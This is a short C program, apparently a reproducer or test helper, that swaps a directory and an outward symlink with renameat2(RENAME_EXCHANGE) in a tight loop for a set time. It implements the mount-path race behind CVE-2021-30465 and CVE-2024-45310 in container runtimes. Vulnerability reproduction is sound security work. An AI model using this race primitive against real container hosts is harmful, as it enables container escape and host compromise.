/* swapper A B SECONDS: swap two names with renameat2(RENAME_EXCHANGE) as fast as possible for SECONDS
 * seconds — one a directory, one a symlink out — the CVE-2021-30465 / CVE-2024-45310 race against a
 * runtime that checks a mount path and then uses it again. Prints "swaps=N". */
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 4) {
		fprintf(stderr, "usage: swapper A B SECONDS\n");
		return 2;
	}
	time_t end = time(NULL) + atoi(argv[3]);
	long n = 0;
	printf("swapping\n");
	fflush(stdout);
	while (time(NULL) < end)
		for (int i = 0; i < 1000; i++)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
				n++;
	printf("swaps=%ld\n", n);
	return 0;
}
